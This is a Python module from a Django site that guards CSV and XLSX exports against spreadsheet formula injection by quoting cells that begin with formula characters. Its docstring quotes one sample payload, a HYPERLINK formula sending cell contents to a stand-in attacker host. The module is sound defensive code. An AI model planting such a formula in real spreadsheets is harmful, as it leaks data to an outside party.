"""Cells that a spreadsheet will not run: the one rule every CSV and XLSX perfsite writes goes through.

Excel, LibreOffice and Google Sheets treat a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula, so an indicator description such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would become a live link that leaks the sheet
to whoever wrote it. OWASP's rule (CSV injection) is to prefix such a cell with a single quote, which
every spreadsheet shows as text. A real number, including a negative one (``-2.5``, ``-12%``), is
left alone so it still sums; and a value that is already a number (int, Decimal, float) is never text.

Writers apply ``formula_safe`` as the last step before bytes: ``csv_row`` / ``csv_record`` for the
``csv`` module, ``SpreadsheetExportMixin`` for django-tables2 list downloads (tablib), and the pack's
XlsxWriter book writes text with ``write_string`` after ``formula_safe``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping

from django_tables2.export import ExportMixin, TableExport

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A figure as perfsite writes it: optional minus, digits with thousands commas, decimals, a percent sign.
_PLAIN_NUMBER = re.compile(r"-?(?:\d[\d,]*(?:\.\d+)?|\.\d+)%?")


def formula_safe(value):
    """``value`` as a spreadsheet will show it and never run it (strings only; anything else unchanged)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_row(values: Iterable) -> list:
    return [formula_safe(value) for value in values]


def csv_record(record: Mapping) -> dict:
    return {key: formula_safe(value) for key, value in record.items()}


class SafeTableExport(TableExport):
    """django-tables2's export limited to CSV and XLSX, every cell through ``formula_safe``."""

    FORMATS = {TableExport.CSV: TableExport.FORMATS[TableExport.CSV], TableExport.XLSX: TableExport.FORMATS["xlsx"]}

    @classmethod
    def is_valid_format(cls, export_format):
        # The parent checks its own FORMATS, which offers yaml, ods and others this site cannot write.
        return export_format in cls.FORMATS

    def table_to_dataset(self, table, exclude_columns, dataset_kwargs=None):
        dataset = super().table_to_dataset(table, exclude_columns, dataset_kwargs)
        safe = type(dataset)(*(csv_row(row) for row in dataset), title=dataset.title)
        if dataset.headers:
            safe.headers = csv_row(dataset.headers)
        return safe


class SpreadsheetExportMixin(ExportMixin):
    """``?_export=csv|xlsx`` on a list page; any other value shows the page as usual."""

    export_class = SafeTableExport
    export_formats = tuple(SafeTableExport.FORMATS)
    export_trigger_param = "_export"
